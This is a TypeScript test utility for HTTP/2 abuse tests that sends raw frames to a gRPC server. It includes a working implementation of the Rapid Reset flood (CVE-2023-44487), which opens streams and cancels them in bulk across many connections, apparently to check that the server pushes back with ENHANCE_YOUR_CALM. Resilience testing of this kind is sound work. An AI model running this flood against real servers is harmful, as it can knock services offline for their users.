/**
 * Raw HTTP/2 frames over a plain TCP socket, for abuse tests: what a hostile or broken client
 * sends, byte for byte, without a client library smoothing it over (node's client, for one,
 * cancels a stream whose HEADERS are still queued instead of sending HEADERS + RST_STREAM).
 *
 * Header blocks use HPACK literals without indexing and without Huffman coding (RFC 7541 6.2.2),
 * which every decoder must accept.
 */
import * as net from 'node:net';

export const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');

export const FrameType = { DATA: 0, HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7, WINDOW_UPDATE: 8, CONTINUATION: 9 } as const;
export const Flag = { END_STREAM: 0x1, ACK: 0x1, END_HEADERS: 0x4 } as const;
export const ErrorCode = { NO_ERROR: 0, PROTOCOL_ERROR: 1, CANCEL: 8, ENHANCE_YOUR_CALM: 11 } as const;

export function frame(type: number, flags: number, streamId: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([head, payload]);
}

function hpackInt(value: number, prefixBits: number, firstByte: number): Buffer {
  const max = (1 << prefixBits) - 1;
  if (value < max) return Buffer.from([firstByte | value]);
  const out = [firstByte | max];
  let v = value - max;
  while (v >= 128) {
    out.push((v % 128) + 128);
    v = Math.floor(v / 128);
  }
  out.push(v);
  return Buffer.from(out);
}

function hpackString(s: string): Buffer {
  const bytes = Buffer.from(s, 'latin1');
  return Buffer.concat([hpackInt(bytes.length, 7, 0), bytes]);
}

/** A header block of literal fields, in the order given (pseudo-headers first, as the client wants them). */
export function headerBlock(headers: ReadonlyArray<readonly [string, string]>): Buffer {
  return Buffer.concat(headers.flatMap(([name, value]) => [Buffer.from([0]), hpackString(name), hpackString(value)]));
}

/** The request headers of a unary gRPC call to `path`, plus `extra`. */
export function grpcRequest(path: string, extra: ReadonlyArray<readonly [string, string]> = []): (readonly [string, string])[] {
  return [
    [':method', 'POST'],
    [':scheme', 'http'],
    [':path', path],
    [':authority', '127.0.0.1'],
    ['content-type', 'application/grpc'],
    ['te', 'trailers'],
    ...extra,
  ];
}

export function settingsFrame(settings: ReadonlyArray<readonly [number, number]> = []): Buffer {
  const payload = Buffer.alloc(settings.length * 6);
  settings.forEach(([id, value], i) => {
    payload.writeUInt16BE(id, i * 6);
    payload.writeUInt32BE(value, i * 6 + 2);
  });
  return frame(FrameType.SETTINGS, 0, 0, payload);
}

export function rstStream(streamId: number, code: number = ErrorCode.CANCEL): Buffer {
  const payload = Buffer.alloc(4);
  payload.writeUInt32BE(code);
  return frame(FrameType.RST_STREAM, 0, streamId, payload);
}

/** One gRPC message (uncompressed), length-prefixed, in a DATA frame. */
export function grpcData(streamId: number, message: Buffer, endStream: boolean): Buffer {
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(message.length, 1);
  return frame(FrameType.DATA, endStream ? Flag.END_STREAM : 0, streamId, Buffer.concat([prefix, message]));
}

export interface ReceivedFrame {
  type: number;
  flags: number;
  streamId: number;
  payload: Buffer;
}

/**
 * A raw HTTP/2 client connection: sends the preface and an empty SETTINGS on connect, ACKs the
 * server's SETTINGS, and records every frame the server sends (and a GOAWAY's error code).
 */
export class RawH2Connection {
  readonly socket: net.Socket;
  readonly frames: ReceivedFrame[] = [];
  goawayCode: number | null = null;
  closed = false;
  private buffered: Buffer = Buffer.alloc(0);
  private readonly keepFrames: boolean;
  readonly connected: Promise<void>;
  readonly done: Promise<void>;

  constructor(address: string, options: { preface?: boolean; keepFrames?: boolean } = {}) {
    const [host, port] = splitAddress(address);
    this.keepFrames = options.keepFrames ?? true;
    this.socket = net.connect(port, host);
    this.socket.on('error', () => {});
    this.connected = new Promise((resolve, reject) => {
      this.socket.once('connect', () => {
        if (options.preface !== false) this.socket.write(Buffer.concat([PREFACE, settingsFrame()]));
        resolve();
      });
      this.socket.once('error', reject);
    });
    this.done = new Promise((resolve) => this.socket.once('close', () => ((this.closed = true), resolve())));
    this.socket.on('data', (chunk: Buffer) => this.onData(chunk));
  }

  /**
   * Writes bytes; resolves once the socket takes more (backpressure), false if it closed or the
   * server did not read them within `waitMs`.
   */
  async send(bytes: Buffer, waitMs = 10_000): Promise<boolean> {
    if (this.closed || this.socket.destroyed) return false;
    if (this.socket.write(bytes)) return true;
    const drained = await new Promise<boolean>((resolve) => {
      const go = (ok: boolean): void => {
        clearTimeout(timer);
        this.socket.off('drain', onDrain);
        this.socket.off('close', onClose);
        this.socket.off('goaway', onClose);
        resolve(ok);
      };
      const onDrain = (): void => go(true);
      const onClose = (): void => go(false);
      const timer = setTimeout(() => go(false), waitMs);
      this.socket.once('drain', onDrain);
      this.socket.once('close', onClose);
      this.socket.once('goaway', onClose);
    });
    return drained && !this.closed;
  }

  /** The frames received on one stream. */
  on(streamId: number): ReceivedFrame[] {
    return this.frames.filter((f) => f.streamId === streamId);
  }

  close(): void {
    this.socket.destroy();
  }

  private onData(chunk: Buffer): void {
    this.buffered = this.buffered.length === 0 ? chunk : Buffer.concat([this.buffered, chunk]);
    while (this.buffered.length >= 9) {
      const length = this.buffered.readUIntBE(0, 3);
      if (this.buffered.length < 9 + length) break;
      const f: ReceivedFrame = {
        type: this.buffered.readUInt8(3),
        flags: this.buffered.readUInt8(4),
        streamId: this.buffered.readUInt32BE(5) & 0x7fffffff,
        payload: this.buffered.subarray(9, 9 + length),
      };
      this.buffered = this.buffered.subarray(9 + length);
      if (f.type === FrameType.SETTINGS && !(f.flags & Flag.ACK) && !this.socket.destroyed) this.socket.write(frame(FrameType.SETTINGS, Flag.ACK, 0));
      if (f.type === FrameType.GOAWAY) {
        this.goawayCode = f.payload.readUInt32BE(4);
        this.socket.emit('goaway', this.goawayCode);
      }
      if (this.keepFrames || f.type === FrameType.GOAWAY) this.frames.push(f);
    }
  }
}

export function splitAddress(address: string): [string, number] {
  const colon = address.lastIndexOf(':');
  return [address.slice(0, colon), Number(address.slice(colon + 1))];
}

export interface FloodResult {
  /** HEADERS frames sent, each followed by RST_STREAM(CANCEL). */
  streams: number;
  connections: number;
  /** Connections the server ended with GOAWAY(ENHANCE_YOUR_CALM). */
  calmedDown: number;
  goaways: number;
  /** GOAWAY error codes seen, by code. */
  goawayCodes: Record<string, number>;
  ms: number;
}

/**
 * Rapid reset (CVE-2023-44487): `connections` clients each open streams and reset them at once,
 * in batches of `batch` HEADERS+RST_STREAM pairs, and reconnect when the server hangs up. Bounded
 * by `durationMs` and `maxStreams`.
 */
export async function rapidResetFlood(address: string, options: { connections: number; durationMs: number; maxStreams: number; path: string; batch?: number }): Promise<FloodResult> {
  const result: FloodResult = { streams: 0, connections: 0, calmedDown: 0, goaways: 0, goawayCodes: {}, ms: 0 };
  const started = Date.now();
  const deadline = started + options.durationMs;
  const batch = options.batch ?? 50;
  const block = headerBlock(grpcRequest(options.path));
  const more = (): boolean => Date.now() < deadline && result.streams < options.maxStreams;
  const worker = async (): Promise<void> => {
    while (more()) {
      const conn = new RawH2Connection(address, { keepFrames: false });
      result.connections++;
      try {
        await conn.connected;
      } catch {
        await new Promise((r) => setTimeout(r, 5));
        continue;
      }
      let id = 1;
      while (more() && !conn.closed && conn.goawayCode === null && id < 0x7fff0000) {
        const parts: Buffer[] = [];
        for (let i = 0; i < batch; i++, id += 2) {
          parts.push(frame(FrameType.HEADERS, Flag.END_HEADERS, id, block), rstStream(id));
        }
        if (!(await conn.send(Buffer.concat(parts), Math.max(1, deadline - Date.now())))) break;
        result.streams += batch;
        await new Promise((r) => setImmediate(r));
      }
      if (conn.goawayCode !== null) {
        result.goaways++;
        result.goawayCodes[conn.goawayCode] = (result.goawayCodes[conn.goawayCode] ?? 0) + 1;
      }
      if (conn.goawayCode === ErrorCode.ENHANCE_YOUR_CALM) result.calmedDown++;
      conn.close();
    }
  };
  await Promise.all(Array.from({ length: options.connections }, worker));
  result.ms = Date.now() - started;
  return result;
}
